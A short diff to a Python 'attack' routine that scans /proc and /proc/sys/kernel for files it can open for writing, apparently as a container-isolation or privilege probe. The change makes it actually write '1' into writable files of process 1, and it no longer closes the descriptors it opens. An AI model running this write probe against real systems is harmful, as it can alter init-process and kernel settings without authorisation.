@@ -11,14 +11,16 @@ def attack(a):
     for top, dirs, files in os.walk("/proc" if inside() else "/proc/sys/kernel"):
         if top == "/proc":
             dirs[:] = [d for d in dirs if d not in own]
-        if top.startswith("/proc/1/"):
-            dirs[:] = [d for d in dirs if d not in ("fd", "map_files", "root", "cwd", "task", "ns")]
+        if top.startswith("/proc/1"):
+            dirs[:] = [d for d in dirs if d not in ("fd", "map_files", "root", "cwd", "ns")]
         for name in files:
             path = os.path.join(top, name)
             if os.path.islink(path):
                 continue
             try:
-                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
+                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
+                if path.startswith("/proc/1/"):
+                    os.write(fd, b"1")	# some of a process's files open for everybody and ask at the write
                 print("opened for writing:", path)
             except OSError:
                 pass
